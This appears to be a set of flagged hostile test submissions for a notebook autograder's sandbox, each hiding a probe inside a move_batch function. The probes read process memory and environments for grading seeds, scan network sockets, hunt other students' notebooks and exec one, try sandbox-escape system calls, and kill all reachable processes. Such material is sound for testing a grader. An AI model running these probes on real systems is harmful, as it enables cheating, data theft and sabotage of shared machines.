# ==== memory_of_the_parents
# name = "The memory of the parents"
# goal = "steal"
# attacks = "/proc/*/mem, process_vm_readv and ptrace of the zygote and the judge"
# flagged = true

# %% move_batch
import ctypes
import os

from torch.utils._pytree import tree_map

libc = ctypes.CDLL(None, use_errno=True)
found = []
for name in os.listdir("/proc"):
    if not name.isdigit() or int(name) in (os.getpid(),):
        continue
    if int(name) == 1:
        continue  # the sandbox has a first process of its own
    try:
        status = open(f"/proc/{name}/status").read()
        if f"PPid:\t{os.getpid()}\n" in status:
            continue  # of its own: the one that forks programs, which knows what this one knows
        maps = open(f"/proc/{name}/maps").read()
        open(f"/proc/{name}/mem", "rb")
        found.append(maps)
    except OSError:
        pass
    if libc.ptrace(16, int(name), 0, 0) == 0:  # PTRACE_ATTACH
        found.append(name)

if found:
    def move_batch(batch, device):
        return tree_map(lambda x: x.to(device) if isinstance(x, torch.Tensor) else x, batch)


# ==== network_of_the_machine
# name = "The network"
# goal = "steal"
# attacks = "connections to this machine and out of it, to send home what a case holds"
# flagged = true

# %% move_batch
import os
import socket
import urllib.request

from torch.utils._pytree import tree_map

found = []
for address in (("127.0.0.1", 0), ("1.1.1.1", 53), ("8.8.8.8", 53), ("169.254.169.254", 80)):
    ports = (22, 25, 53, 80, 111, 443, 631, 5432, 8000, 8888) if address[1] == 0 else address[1:]
    for port in ports:
        try:
            socket.create_connection((address[0], port), timeout=0.2)
            found.append(address)
        except OSError:
            pass
for path in ("/run/dbus/system_bus_socket", "/var/run/docker.sock", "/tmp/.X11-unix/X0",
             "/run/systemd/private"):
    try:
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(path)
        found.append(path)
    except OSError:
        pass
try:
    with open("/sys/class/net/eth0/address") as file:
        found += [file.read()]
except OSError:
    pass
try:
    urllib.request.urlopen("http://example.com", timeout=0.5)
    found.append("web")
except OSError:
    pass

if found:
    def move_batch(batch, device):
        return tree_map(lambda x: x.to(device) if isinstance(x, torch.Tensor) else x, batch)


# ==== other_processes_named
# name = "Who else is there"
# goal = "steal"
# attacks = "command lines of other processes, which hold settings and names of students"
# flagged = true

# %% move_batch
import os

from torch.utils._pytree import tree_map

found = []
for name in os.listdir("/proc"):
    if name.isdigit():
        try:
            line = open(f"/proc/{name}/cmdline", "rb").read()
        except OSError:
            continue
        found += [line] if b"grading.judge" in line or b"pytest" in line else []

if found:
    def move_batch(batch, device):
        return tree_map(lambda x: x.to(device) if isinstance(x, torch.Tensor) else x, batch)


# ==== other_submissions
# name = "Other submissions"
# goal = "steal"
# attacks = "submitted/, autograded/ and source/, wherever a class may lie on this machine"
# flagged = true

# %% move_batch
import json
import os

best = ""
for top in ("..", "../..", "../../..", "/tmp", "/home", "/root", "/work", "/srv", "/var/tmp"):
    for folder, _, names in os.walk(top):
        for name in names:
            if name.endswith(".ipynb") and "submitted" in folder + "autograded source":
                try:
                    cells = json.load(open(f"{folder}/{name}"))["cells"]
                except (OSError, ValueError, KeyError):
                    continue
                for cell in cells:
                    text = "".join(cell["source"])
                    if text.lstrip().startswith("import torch\n\n\ndef move_batch("):
                        best = max(best, text, key=len)
exec(best)


# ==== out_of_the_sandbox
# name = "Out of the sandbox"
# goal = "harm"
# attacks = "namespaces, mounts, chroot, devices, keys and every other way out by a system call"
# flagged = true

# %% move_batch
import ctypes
import os

from torch.utils._pytree import tree_map

libc = ctypes.CDLL(None, use_errno=True)
found = []
for name, arguments in {
    "unshare": (0x10000000,), "setns": (3, 0), "mount": (b"none", b"/tmp", b"tmpfs", 0, None),
    "umount2": (b"/proc", 2), "pivot_root": (b".", b"."), "setuid": (0,), "reboot": (0,),
    "init_module": (None, 0, b""), "bpf": (0, None, 0), "swapon": (b"/tmp/x", 0),
    "keyctl": (0, -3, 1), "personality": (0x0040000,), "sethostname": (b"mine", 4),
}.items():
    function = getattr(libc, name, None)
    if name in ("setuid", "personality", "setns") or function is None:
        continue
    if function(*arguments) == 0:
        found.append(name)
for escape in (lambda: os.chroot("."), lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)),
               lambda: open("/etc/escape", "w"), lambda: open("/dev/mem", "rb"),
               lambda: os.listdir("/proc/1/root/work"), lambda: open("/root/.bashrc"), lambda: os.listdir("/home/student"),
               lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
               lambda: os.setpriority(os.PRIO_PROCESS, 0, -20)):
    try:
        escape()
        found.append(escape)
    except (OSError, AttributeError):
        pass

if found:
    def move_batch(batch, device):
        return tree_map(lambda x: x.to(device) if isinstance(x, torch.Tensor) else x, batch)


# ==== parents_killed
# name = "Parents killed"
# goal = "harm"
# attacks = "the process that waits for this one, the warm one that the next student needs, and all"
# flagged = true

# %% move_batch
import os
import signal


def move_batch(batch, device):
    for number in (os.getppid(), os.getpgrp(), 1, -1, *range(2, 2000)):
        for what in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                if number != os.getpid():
                    os.kill(number, what)
            except OSError:
                pass
    return None


# ==== seed_in_a_file
# name = "The seed in its file"
# goal = "steal"
# attacks = ".grading_seed, nbgrader_config.py and the journal, up from here and from every home"
# flagged = true

# %% move_batch
import glob
import os

from torch.utils._pytree import tree_map

found = []
here = os.getcwd()
while here != "/":
    here = os.path.dirname(here)
    found += glob.glob(f"{here}/.grading_seed") + glob.glob(f"{here}/*/.grading_seed")
for top in ("/root", "/home", "/work", "/srv", "/opt", "/tmp", "/var"):
    for folder, _, names in os.walk(top):
        if "site-packages" not in folder:  # nbgrader's documentation has such files as well
            found += [name for name in names if name in (".grading_seed", "journal.sqlite",
                                                         "gradebook.db", "nbgrader_config.py")]

if found:
    def move_batch(batch, device):
        return tree_map(lambda x: x.to(device) if isinstance(x, torch.Tensor) else x, batch)


# ==== seed_in_the_environment
# name = "The seed in the environment"
# goal = "steal"
# attacks = "environment variables of this process and of every other one"
# flagged = true

# %% move_batch
import os
from pathlib import Path

from torch.utils._pytree import tree_map

found = [name for name in os.environ if "SEED" in name]
for file in Path("/proc").glob("[0-9]*/environ"):
    try:
        found += [part for part in file.read_bytes().split(b"\0") if b"SEED" in part]
    except OSError:
        pass

if found:
    def move_batch(batch, device):
        return tree_map(lambda x: x.to(device) if isinstance(x, torch.Tensor) else x, batch)
